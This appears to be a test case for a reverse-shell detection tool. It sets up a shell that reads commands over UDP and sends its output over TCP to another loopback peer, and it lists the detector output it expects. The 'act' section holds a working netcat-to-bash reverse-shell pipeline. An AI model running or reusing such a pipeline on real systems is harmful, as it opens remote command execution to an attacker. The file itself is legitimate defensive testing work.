# R54b: a shell gets commands by UDP, and what it writes goes to another peer by TCP
# stage: equipped
# within: 6000 ms
# expect: reverse_shell_detected
#   detection.reason: ~and what it writes goes to 127.0.0.2:4657
#   detection.confidence: low
#   reverse_shell.process_list.length: 3
#   reverse_shell.process_list.1.network_connection_list.0.destination_port: 4657
#   reverse_shell.process_list.2.process_id: $shell
#
# Datagrams are not counted, so three turns are needed. Each takes half a second, and a scan may
# miss one. The first datagrams come while bash still starts.

#: prepare
. lib/ways.sh
command_udp 4656
peer 4657
#: act
. lib/ways.sh
act
( (echo; hold) | nc.openbsd -u 127.0.0.1 4656 | bash -s r54b 2>&1 | nc.openbsd 127.0.0.2 4657) \
  < /dev/null > /dev/null 2>&1 &
who shell 'bash -s r54b'
